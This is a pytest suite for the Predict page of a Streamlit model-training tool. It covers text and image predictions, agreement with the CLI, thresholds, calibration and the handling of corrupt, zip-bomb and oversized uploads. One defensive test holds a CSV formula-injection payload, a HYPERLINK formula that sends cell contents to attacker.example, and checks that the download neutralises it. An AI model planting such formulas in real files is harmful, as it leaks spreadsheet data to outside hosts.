"""The Predict page against real finished runs (tiny models trained through `python -m core train`)."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile

import pandas as pd
import pytest
from PIL import Image
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

import core.serving.inference
from core.serving.explain import explain_prediction
from core.serving.inference import load_predictor
from storage.paths import data_home
from storage.results import save_threshold
from storage.runs import get_run
from tests.conftest import ROOT
from tests.finished_runs import image_run, text_run, use_run
from tests.test_bad_inputs import gray16_png, with_bad_crc, zip_bomb
from tests.test_ingest_images import class_folders, photo, zip_of

SPAMMY = "WINNER!! Claim your FREE prize now, call 09061234567"


def open_predict() -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    at.switch_page("pages/predict.py").run()
    assert not at.exception
    return at


def predict_text(at: AppTest, text: str) -> AppTest:
    at.text_area(key="predict_text").input(text)
    at.button(key="predict_submit").click().run()
    assert not at.exception
    return at


def metric(at: AppTest, label: str) -> str:
    return next(m.value for m in at.metric if m.label == label)


def table(block, *columns: str) -> pd.DataFrame:
    """The first table with these columns (read-only tables carry no key in AppTest)."""
    return next(d.value for d in block.dataframe if set(columns) <= set(d.value.columns))


def reference(run_id: int, inputs: list) -> list[dict[str, float]]:
    """What the saved model itself says, loaded afresh outside the page."""
    return load_predictor(data_home() / get_run(run_id).artifact_dir).predict(inputs)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_typed_text_gets_the_models_label_probabilities_and_timing(tuneboard_home):
    run_id = use_run(text_run(), tuneboard_home)
    (expected,) = reference(run_id, [SPAMMY])
    at = predict_text(open_predict(), SPAMMY)
    best = max(expected, key=expected.get)
    assert metric(at, "Prediction") == best
    assert metric(at, "Probability") == f"{expected[best]:.1%}"
    assert re.fullmatch(r"\d+ ms", metric(at, "Time"))
    shown = table(at, "class", "probability").set_index("class")["probability"].to_dict()
    assert shown == pytest.approx(expected, abs=1e-6)


def cli_predict(home, run_id: int, *args: str) -> dict:
    env = {**os.environ, "TUNEBOARD_HOME": str(home), "HF_HUB_OFFLINE": "1"}
    done = subprocess.run([sys.executable, "-m", "core", "predict", "--run", str(run_id), *args, "--json"],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    (prediction,) = json.loads(done.stdout)["predictions"]
    return prediction


@pytest.mark.slow  # a finished run and a CLI process
def test_the_page_agrees_with_the_command_line(tuneboard_home):
    run_id = use_run(text_run(), tuneboard_home)
    labels = get_run(run_id).dataset.labels
    for threshold in (None, 0.2):  # without a saved threshold, and with one that can change the answer
        save_threshold(run_id, threshold)
        cli = cli_predict(tuneboard_home, run_id, "--text", SPAMMY)
        at = predict_text(open_predict(), SPAMMY)
        assert metric(at, "Prediction") == cli["label"]
        shown = table(at, "class", "probability").set_index("class")["probability"].to_dict()
        assert shown == pytest.approx(cli["probabilities"], abs=2e-6)  # the CLI rounds to 6 decimals
        assert set(shown) == set(labels)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_the_saved_threshold_decides_two_class_predictions(tuneboard_home):
    run_id = use_run(text_run(), tuneboard_home)
    labels = get_run(run_id).dataset.labels
    (expected,) = reference(run_id, [SPAMMY])
    # A threshold just under the second class's probability makes it the answer, even when it is not the argmax.
    save_threshold(run_id, expected[labels[1]] - 0.01)
    at = predict_text(open_predict(), SPAMMY)
    assert metric(at, "Prediction") == labels[1]
    assert any("Using the threshold saved on **Results**" in c.value for c in at.caption)
    save_threshold(run_id, min(1.0, expected[labels[1]] + 0.01))
    at = predict_text(open_predict(), SPAMMY)
    assert metric(at, "Prediction") == labels[0]


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_explain_highlights_the_words_of_the_text(tuneboard_home):
    run_id = use_run(text_run(), tuneboard_home)
    at = predict_text(open_predict(), SPAMMY)
    at.button(key="predict_explain").click().run()
    assert not at.exception
    label = metric(at, "Prediction")
    # The same explanation outside the page: shown only when its deletion check passes (a random tiny model's may not).
    check = explain_prediction(load_predictor(data_home() / get_run(run_id).artifact_dir), SPAMMY, label).check
    if not check.passed:
        assert any("did not pass its check" in i.value for i in at.info)
        return
    assert any(f"pushed the model towards **{label}**" in m.value for m in at.markdown)
    assert any("Checked: deleting" in c.value for c in at.caption)
    words = table(at, "word", "weight")
    assert set(words["word"]) <= set(SPAMMY.split()) and len(words) == 5
    assert words["weight"].abs().max() == pytest.approx(1.0)  # scaled to the strongest word
    assert words["weight"].abs().is_monotonic_decreasing


@pytest.fixture
def media_files(monkeypatch) -> list[MemoryMediaFileStorage]:
    """The media storage of each AppTest run (a spy: the real storage, remembered), so a test can fetch a
    download at the URL the page gives the browser."""
    stores: list[MemoryMediaFileStorage] = []
    real_init = MemoryMediaFileStorage.__init__

    def remembered(self, *args, **kwargs):
        real_init(self, *args, **kwargs)
        stores.append(self)

    monkeypatch.setattr(MemoryMediaFileStorage, "__init__", remembered)
    return stores


def downloaded(at: AppTest, key: str, stores: list[MemoryMediaFileStorage]) -> bytes:
    """The bytes a click on the download button `key` would save, from the last run's media storage."""
    url = at.download_button(key=key).proto.url  # "/mock/media/<file id>.csv"
    return stores[-1].get_file(url.rsplit("/", 1)[-1]).content


def open_data_page() -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    at.switch_page("pages/data.py").run()
    assert not at.exception
    return at


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_batch_scoring_of_a_csv_uses_the_chosen_column_and_offers_a_download(tuneboard_home, media_files):
    run_id = use_run(text_run(), tuneboard_home)
    texts = [SPAMMY, "See you at the station at 6", "Your parcel is waiting, pay the fee at bit.ly/x"]
    csv = "id,message\n" + "".join(f'{i},"{t}"\n' for i, t in enumerate(texts))
    at = open_predict()
    at.file_uploader(key="predict_batch_file").set_value(("inbox.csv", csv.encode(), "text/csv")).run()
    assert at.selectbox(key="predict_batch_column").value == "message"  # guessed: the longest texts
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    scored = table(at, "input", "predicted", "confidence")
    assert scored["input"].tolist() == texts
    expected = reference(run_id, texts)
    labels = get_run(run_id).dataset.labels
    for row, probabilities in zip(scored.to_dict("records"), expected):
        assert [row[f"P({label})"] for label in labels] == pytest.approx([probabilities[l] for l in labels], abs=1e-6)
        assert row["predicted"] == max(probabilities, key=probabilities.get)
    assert [b.label for b in at.get("download_button")] == ["Download CSV"]
    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
    pd.testing.assert_frame_equal(saved, scored, check_dtype=False)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_the_download_neutralises_formulas(tuneboard_home, media_files):
    use_run(text_run(), tuneboard_home)
    hyperlink = '=HYPERLINK("http://attacker.example/?d="&A1, "Claim your prize")'
    texts = [hyperlink, "@SUM(A1:A9) FREE entry", "+44 7700 900123 call now", "See you at six"]
    csv = "message\n" + "".join('"{}"\n'.format(t.replace('"', '""')) for t in texts)
    at = open_predict()
    at.file_uploader(key="predict_batch_file").set_value(("inbox.csv", csv.encode(), "text/csv")).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    assert table(at, "input", "predicted")["input"].tolist() == texts  # the page shows the texts as they are
    saved = pd.read_csv(io.BytesIO(downloaded(at, "predict_batch_download", media_files)))
    assert saved["input"].tolist() == ["'" + t for t in texts[:3]] + ["See you at six"]
    assert saved["confidence"].dtype == float  # numbers stay numbers


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_the_model_is_loaded_once_and_kept(tuneboard_home, monkeypatch):
    use_run(text_run(), tuneboard_home)
    calls = []
    real_load = core.serving.inference.load_predictor

    def counting_load(output_dir):  # a spy: counts and calls the real loader
        calls.append(output_dir)
        return real_load(output_dir)

    monkeypatch.setattr(core.serving.inference, "load_predictor", counting_load)
    at = predict_text(open_predict(), SPAMMY)
    predict_text(at, "Lunch tomorrow?")
    predict_text(at, "Call me back please")
    assert len(calls) == 1


def png(path) -> bytes:
    buffer = io.BytesIO()
    Image.open(path).save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_dropped_image_gets_a_prediction_and_an_occlusion_heatmap(tuneboard_home):
    trained = image_run()
    run_id = use_run(trained, tuneboard_home)
    photo = next((trained.data / "bees").iterdir())
    (expected,) = reference(run_id, [Image.open(photo)])
    at = open_predict()
    at.file_uploader(key="predict_image").set_value(("bee.png", png(photo), "image/png")).run()
    assert not at.exception
    best = max(expected, key=expected.get)
    assert metric(at, "Prediction") == best and metric(at, "Probability") == f"{expected[best]:.1%}"
    at.button(key="predict_explain").click().run()
    assert not at.exception
    check = explain_prediction(load_predictor(data_home() / get_run(run_id).artifact_dir), Image.open(photo),
                               best).check
    captions = [image.proto.imgs[0].caption for image in at.get("image")]
    if not check.passed:  # a random tiny model's explanation may fail its check: then none is shown, and why
        assert any("did not pass its check" in i.value for i in at.info)
        assert "What the model saw, with the regions that drove it" not in captions
        return
    assert any("Red regions raised the probability" in m.value for m in at.markdown)
    assert "What the model saw, with the regions that drove it" in captions


@pytest.mark.slow  # a finished run and a CLI process
def test_the_page_agrees_with_the_command_line_on_an_image(tuneboard_home):
    trained = image_run()
    run_id = use_run(trained, tuneboard_home)
    photo = next((trained.data / "ants").iterdir())
    cli = cli_predict(tuneboard_home, run_id, "--image", str(photo))
    at = open_predict()
    at.file_uploader(key="predict_image").set_value(("ant.png", photo.read_bytes(), "image/png")).run()
    assert metric(at, "Prediction") == cli["label"]
    shown = table(at, "class", "probability").set_index("class")["probability"].to_dict()
    assert shown == pytest.approx(cli["probabilities"], abs=2e-6)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_zip_and_loose_images_are_scored_together(tuneboard_home):
    trained = image_run()
    use_run(trained, tuneboard_home)
    ants, bees = sorted((trained.data / "ants").iterdir())[:2], sorted((trained.data / "bees").iterdir())[:1]
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        for path in ants:
            z.writestr(f"ants/{path.name}", png(path))
        z.writestr("notes.txt", "not an image")
    at = open_predict()
    at.file_uploader(key="predict_batch_images").set_value(
        [("field.zip", archive.getvalue(), "application/zip"), ("bee.png", png(bees[0]), "image/png")]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    scored = table(at, "input", "predicted", "confidence")
    assert scored["input"].tolist() == [f"field.zip/ants/{p.name}" for p in ants] + ["bee.png"]
    assert scored[["P(ants)", "P(bees)"]].sum(axis=1).to_numpy() == pytest.approx([1.0, 1.0, 1.0], abs=1e-5)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_folder_of_images_is_scored(tuneboard_home):
    trained = image_run()
    run_id = use_run(trained, tuneboard_home)
    photos = sorted((trained.data / "bees").iterdir())[:3]
    at = open_predict()
    at.radio(key="predict_batch_source").set_value("A folder").run()
    at.file_uploader(key="predict_batch_folder").set_value([(f"bees/{p.name}", png(p), "image/png") for p in photos]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    scored = table(at, "input", "predicted", "confidence")
    expected = reference(run_id, [Image.open(p) for p in photos])
    assert scored["P(bees)"].tolist() == pytest.approx([e["bees"] for e in expected], abs=1e-6)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_bad_upload_gets_a_plain_message(tuneboard_home):
    use_run(image_run(), tuneboard_home)
    at = open_predict()
    at.file_uploader(key="predict_batch_images").set_value([("broken.zip", b"not a zip", "application/zip")]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    assert at.error[0].value == "This zip file is damaged and could not be opened. Create it again and upload it."


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_zip_bomb_gets_the_data_pages_message(tuneboard_home):
    use_run(image_run(), tuneboard_home)
    bomb = zip_bomb()
    data_page = open_data_page()
    data_page.file_uploader(key="data_upload").upload("bomb.zip", bomb, "application/zip").run()
    at = open_predict()
    at.file_uploader(key="predict_batch_images").set_value([("bomb.zip", bomb, "application/zip")]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception and not data_page.exception
    assert [e.value for e in at.error] == [e.value for e in data_page.error]
    assert "zip bomb" in at.error[0].value
    assert table_or_none(at) is None  # nothing was scored


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_corrupt_image_is_named_with_the_data_pages_reason_and_the_rest_scored(tuneboard_home):
    run_id = use_run(image_run(), tuneboard_home)
    files = class_folders(3) | {"ants/cut.jpg": photo(11, size=(64, 64))[:300]}
    upload = zip_of(files)
    data_page = open_data_page()
    data_page.file_uploader(key="data_upload").upload("insects.zip", upload, "application/zip").run()
    on_data = [w.value for w in data_page.warning if "could not be read" in w.value]
    assert len(on_data) == 1 and "'ants/cut.jpg: damaged or cut off" in on_data[0]
    at = open_predict()
    at.file_uploader(key="predict_batch_images").set_value([("insects.zip", upload, "application/zip")]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception
    assert [w.value for w in at.warning if "could not be read" in w.value] == on_data
    scored = table(at, "input", "predicted", "confidence")
    good = sorted(name for name in files if name != "ants/cut.jpg")
    assert scored["input"].tolist() == good
    expected = reference(run_id, [decoded(files[name]) for name in good])
    assert scored["P(bees)"].tolist() == pytest.approx([e["bees"] for e in expected], abs=1e-6)


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_scan_too_large_to_decode_and_a_damaged_entry_are_named_and_the_rest_scored(tuneboard_home):
    """Issue 22: a 16-bit scan (1.1 GB decoded) and a zip entry with a bad CRC ended in 'Something went wrong'."""
    use_run(image_run(), tuneboard_home)
    files = class_folders(2) | {"bees/scan.png": gray16_png(), "ants/crc.jpg": photo(12)}
    at = open_predict()
    at.file_uploader(key="predict_batch_images").set_value(
        [("insects.zip", with_bad_crc(zip_of(files), "ants/crc.jpg"), "application/zip")]).run()
    at.button(key="predict_batch_go").click().run()
    assert not at.exception and not at.error
    (warning,) = [w.value for w in at.warning if "could not be read" in w.value]
    assert "'ants/crc.jpg: it is damaged inside the zip'" in warning
    assert "'bees/scan.png: too large to decode (7,990 x 7,990 16-bit pixels need about 609 MB" in warning
    assert table(at, "input", "predicted", "confidence")["input"].tolist() == sorted(class_folders(2))
    at = open_predict()  # the one-image box
    at.file_uploader(key="predict_image").set_value(("scan.png", gray16_png(), "image/png")).run()
    assert not at.exception and not at.metric
    assert at.error[0].value.startswith("scan.png could not be read: too large to decode (7,990 x 7,990 16-bit")


def decoded(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def table_or_none(at: AppTest) -> pd.DataFrame | None:
    return next((d.value for d in at.dataframe if "predicted" in d.value.columns), None)


def test_without_a_finished_run_the_page_says_where_to_go():
    at = open_predict()
    assert "No finished run yet" in at.info[0].value


@pytest.mark.slow  # a finished run (tests/finished_runs.py: a CLI process)
def test_a_dropped_image_over_the_pixel_limit_is_refused_like_on_the_data_page(tuneboard_home):
    """The one-image box reads through core/ingest too: a small file that decodes to a huge picture is refused
    before it is decoded, with the Data page's reason, and nothing is predicted."""
    from core.ingest.images import UnreadableImage, open_checked
    from core.ingest.limits import DEFAULT_LIMITS

    use_run(image_run(), tuneboard_home)
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, format="PNG")  # 400 megapixels in a few kilobytes
    with pytest.raises(UnreadableImage) as refused:
        open_checked(buffer.getvalue(), DEFAULT_LIMITS)
    at = open_predict()
    at.file_uploader(key="predict_image").set_value(("huge.png", buffer.getvalue(), "image/png")).run()
    assert not at.exception
    assert [e.value for e in at.error] == [f"huge.png could not be read: {refused.value}. Try a JPEG or PNG."]
    assert not at.metric


@pytest.mark.slow  # a finished run and a CLI process
def test_calibrated_confidence_and_the_uncertain_mark_agree_on_the_page_the_batch_and_the_command_line(
        tuneboard_home, media_files):
    import numpy as np
    from sqlalchemy import update

    from core.evaluation.calibration import apply_temperature
    from storage.db import session_factory
    from storage.models import Run
    from storage.results import save_min_confidence

    run_id = use_run(text_run(), tuneboard_home)
    labels = get_run(run_id).dataset.labels
    with session_factory().begin() as s:  # as if a temperature of 3 had been fitted on validation
        s.execute(update(Run).where(Run.id == run_id).values(calibration={"temperature": 3.0}))
    (raw,) = reference(run_id, [SPAMMY])
    calibrated = dict(zip(labels, apply_temperature(np.array([[raw[l] for l in labels]]), 3.0)[0]))
    best = max(calibrated, key=calibrated.get)
    for point, uncertain in ((calibrated[best] - 0.01, False), (calibrated[best] + 0.01, True)):
        save_min_confidence(run_id, point)
        at = predict_text(open_predict(), SPAMMY)
        assert metric(at, "Probability") == f"{calibrated[best]:.1%}"
        assert any("**Uncertain**" in w.value for w in at.warning) == uncertain
    cli = cli_predict(tuneboard_home, run_id, "--text", SPAMMY)  # with the operating point just above the answer
    assert (cli["label"], cli["uncertain"]) == (best, True)
    assert cli["probabilities"] == pytest.approx(calibrated, abs=2e-6)
    at = open_predict()
    at.file_uploader(key="predict_batch_file").set_value(("inbox.csv", f'message\n"{SPAMMY}"\n'.encode(),
                                                           "text/csv")).run()
    at.button(key="predict_batch_go").click().run()
    scored = table(at, "input", "predicted", "uncertain")
    assert scored["uncertain"].tolist() == [True]
    assert any("1 uncertain" in c.value for c in at.caption)
